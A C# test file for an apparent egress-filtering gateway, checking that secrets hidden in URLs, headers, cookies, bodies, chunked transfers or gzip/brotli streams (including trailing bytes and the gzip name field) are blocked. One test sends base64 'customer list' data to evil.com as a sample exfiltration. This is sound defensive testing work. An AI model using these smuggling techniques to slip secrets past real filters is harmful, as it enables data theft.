using System.IO.Compression;
using System.Text;
using Bartizan.Core.Enforcement;
using Bartizan.Core.Entries;
using Bartizan.Core.Manifests;
using Bartizan.Core.Policies;

namespace Bartizan.Gateway.Tests.Egress;

/// <summary>A request over cleartext HTTP is read whole before it is decided, where guards look for something in it.</summary>
public sealed class GuardedRequestTests
{
    private const string Rule = "allow: http * http://api.example/**";

    private static readonly GuardTerms _guards = new() { Secrets = GuardAction.Block };

    private static string Hidden => Convert.ToBase64String(Encoding.UTF8.GetBytes("x" + TestHost.Secret));

    [Theory]
    [InlineData("GET http://api.example/a?note=HIDDEN HTTP/1.1\r\nHost: api.example\r\n\r\n")]
    [InlineData("GET http://api.example/HIDDEN HTTP/1.1\r\nHost: api.example\r\n\r\n")]
    [InlineData("GET http://api.example/ HTTP/1.1\r\nHost: api.example\r\nX-Note: a HIDDEN\r\n\r\n")]
    [InlineData("GET http://api.example/ HTTP/1.1\r\nHost: api.example\r\nCookie: a=b; c=HIDDEN\r\n\r\n")]
    public async Task A_credential_in_the_address_or_a_field_never_leaves(string request) =>
        await RefusedAsync(Encoding.ASCII.GetBytes(request.Replace("HIDDEN", Hidden, StringComparison.Ordinal)));

    [Fact]
    public async Task A_credential_in_a_body_never_leaves_in_whatever_it_is_packed()
    {
        foreach (
            var body in new[]
            {
                $$$"""{"a":{"b":"{{{Hidden}}}"}}""",
                $"a=1&b={Uri.EscapeDataString(TestHost.Secret)}",
                $"--x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n{Hidden}\r\n--x--\r\n",
            }
        )
        {
            var bytes = Encoding.UTF8.GetBytes(body);
            await RefusedAsync(Post(bytes));
            await RefusedAsync(Chunked(bytes));
            await RefusedAsync(
                Post(Packed(bytes, s => new GZipStream(s, CompressionLevel.Fastest)), "Content-Encoding: gzip\r\n")
            );
            await RefusedAsync(
                Post(Packed(bytes, s => new BrotliStream(s, CompressionLevel.Fastest)), "Content-Encoding: br\r\n")
            );
        }
    }

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(3)]
    [InlineData(4)]
    [InlineData(5)]
    [InlineData(6)]
    public async Task What_is_denied_when_it_comes_and_allowed_when_it_is_decided_does_not_pass_unread(int look)
    {
        await using var house = new EgressHouse(_guards, "deny: http * http://api.example/**");
        await using var canary = Canary.Ok();
        house.Outside("api.example", canary);
        var open = Rules.Manifest(Rule) with { Guards = _guards, Credentials = house.Session.Manifest.Credentials };
        house.Host.Looking = count =>
        {
            if (count == look)
            {
                house.Control.Replace(Policy.Compile(open));
            }
        };
        using var wire = await house.WireAsync();

        var answer = await wire.AskAsync(
            Encoding.Latin1.GetString(Post(Encoding.UTF8.GetBytes(Hidden), "Connection: close\r\n"))
        );

        answer.ShouldStartWith("HTTP/1.1 403");
        canary.Heard.ShouldNotContain(Hidden);
    }

    [Theory]
    [InlineData("gzip", false)]
    [InlineData("gzip", true)]
    [InlineData("deflate", false)]
    [InlineData("br", true)]
    public async Task What_is_hidden_behind_a_packed_body_never_arrives(string coding, bool chunked)
    {
        await using var house = new EgressHouse(_guards, Rule);
        await using var canary = Canary.Ok();
        house.Outside("api.example", canary);
        byte[] body =
        [
            .. Packed(
                "It rains."u8.ToArray(),
                s =>
                    coding switch
                    {
                        "gzip" => new GZipStream(s, CompressionLevel.Fastest),
                        "deflate" => new ZLibStream(s, CompressionLevel.Fastest),
                        _ => new BrotliStream(s, CompressionLevel.Fastest),
                    }
            ),
            .. Encoding.ASCII.GetBytes(TestHost.Secret),
        ];
        var fields = $"Content-Encoding: {coding}\r\n";
        using var wire = await house.WireAsync();
        var request = chunked ? Chunked(body, fields) : Post(body, fields + "Connection: close\r\n");
        (await wire.AskAsync(Encoding.Latin1.GetString(request))).ShouldContain("hello");
        (await house.Host.OutcomeAsync(OutcomeKind.Done)).Usage!.BytesOut.ShouldBe("It rains.".Length);
        canary.Heard.ShouldNotContain(TestHost.Secret);
        canary.Heard.ShouldNotContain("Content-Encoding");
        canary.Heard.ShouldContain(chunked ? "Transfer-Encoding: chunked" : "Content-Length: 9\r\n");
        if (!chunked)
        {
            canary.Heard.ShouldEndWith("\r\n\r\nIt rains.");
        }
    }

    [Fact]
    public async Task What_is_hidden_in_the_fields_of_a_packed_body_never_arrives()
    {
        await using var house = new EgressHouse(_guards, Rule);
        await using var canary = Canary.Ok();
        house.Outside("api.example", canary);
        var plain = Packed("It rains."u8.ToArray(), s => new GZipStream(s, CompressionLevel.Fastest));
        byte[] body =
        [
            .. plain[..3],
            8, // FNAME: a name that ends with a zero follows the ten bytes of the head
            .. plain[4..10],
            .. Encoding.ASCII.GetBytes(TestHost.Secret),
            0,
            .. plain[10..],
        ];
        using var wire = await house.WireAsync();
        var request = Post(body, "Content-Encoding: gzip\r\nConnection: close\r\n");
        (await wire.AskAsync(Encoding.Latin1.GetString(request))).ShouldContain("hello");
        canary.Heard.ShouldEndWith("Content-Length: 9\r\nConnection: close\r\n\r\nIt rains.");
    }

    [Fact]
    public async Task Where_only_exfiltration_is_looked_for_a_request_is_read_too()
    {
        await using var house = new EgressHouse(
            new GuardTerms { Exfiltration = GuardAction.Block },
            "allow: http * http://evil.com/**"
        );
        await using var canary = Canary.Ok();
        house.Outside("evil.com", canary);
        using var wire = await house.WireAsync();
        var answer = await wire.AskAsync(
            "GET http://evil.com/?d=dGhlIGN1c3RvbWVyIGxpc3Q6IEFubmEsIEJvYiwgQ2xhcmE HTTP/1.1\r\nHost: evil.com\r\n\r\n"
        );
        answer.ShouldStartWith("HTTP/1.1 403");
        canary.Hits.ShouldBe(0);
    }

    [Fact]
    public async Task What_guards_can_not_read_is_refused()
    {
        await RefusedAsync(Post("abc"u8.ToArray(), "Content-Encoding: zstd\r\n"), "packed in a way");
        await RefusedAsync(Post("abc"u8.ToArray(), "Content-Encoding: gzip\r\n"), "packed in a way");
        await RefusedAsync(Post([.. Enumerable.Repeat((byte)255, 99)], "Content-Encoding: br\r\n"), "packed in a way");
        await RefusedAsync(
            Post(
                Packed(new byte[16 << 20], s => new GZipStream(s, CompressionLevel.Fastest)),
                "Content-Encoding: gzip\r\n"
            ),
            "packed in a way"
        );
    }

    [Fact]
    public async Task A_clean_request_arrives_as_it_was_sent_and_its_body_is_in_the_intent()
    {
        foreach (var chunked in new[] { false, true })
        {
            await using var house = new EgressHouse(_guards, Rule);
            await using var canary = Canary.Ok();
            house.Outside("api.example", canary);
            var body = Encoding.UTF8.GetBytes("""{"a":"It rains."}""");
            using var wire = await house.WireAsync();
            (
                await wire.AskAsync(
                    Encoding.ASCII.GetString(
                        chunked ? Chunked(body) : Post(body, "Expect: 100-continue\r\nConnection: close\r\n")
                    )
                )
            ).ShouldContain("hello");
            (await house.Host.OutcomeAsync(OutcomeKind.Done)).Kind.ShouldBe(EntryKind.Outcome);
            var intent = await house.Host.EntryAsync(e => e.Kind == EntryKind.Intent);
            intent.Payloads.Length.ShouldBe(2);
            Encoding.UTF8.GetString(intent.Payloads[1].Content.Span).ShouldBe("""{"a":"It rains."}""");
            intent.Detail!.ShouldContain("lent_secrets/1 0.00 of 1.00 pass");
            (await house.Host.OutcomeAsync(OutcomeKind.Done)).Usage!.BytesOut.ShouldBe(body.Length);
        }
    }

    private static async Task RefusedAsync(byte[] request, string why = "a guard objects")
    {
        await using var house = new EgressHouse(_guards, Rule);
        await using var canary = Canary.Ok();
        house.Outside("api.example", canary);
        using var wire = await house.WireAsync();
        var answer = await wire.AskAsync(Encoding.Latin1.GetString(request));
        answer.ShouldStartWith("HTTP/1.1 403");
        canary.Hits.ShouldBe(0);
        (await house.Host.RefusalAsync()).Reason!.ShouldContain(
            why == "a guard objects" ? "lent_secrets/1 1.00 of 1.00 block" : why
        );
    }

    private static byte[] Post(byte[] body, string fields = "") =>
        [
            .. Encoding.ASCII.GetBytes(
                $"POST http://api.example/a HTTP/1.1\r\nHost: api.example\r\n{fields}Content-Length: {body.Length}\r\n\r\n"
            ),
            .. body,
        ];

    // A chunk for each byte.
    private static byte[] Chunked(byte[] body, string fields = "") =>
        [
            .. "POST http://api.example/a HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n"u8,
            .. Encoding.ASCII.GetBytes(fields),
            .. "Transfer-Encoding: chunked\r\n\r\n"u8,
            .. body.SelectMany(b => (byte[])[.. "1\r\n"u8, b, .. "\r\n"u8]),
            .. "0\r\n\r\n"u8,
        ];

    private static byte[] Packed(byte[] body, Func<Stream, Stream> pack)
    {
        var packed = new MemoryStream();
        using (var packing = pack(packed))
        {
            packing.Write(body);
        }

        return packed.ToArray();
    }
}
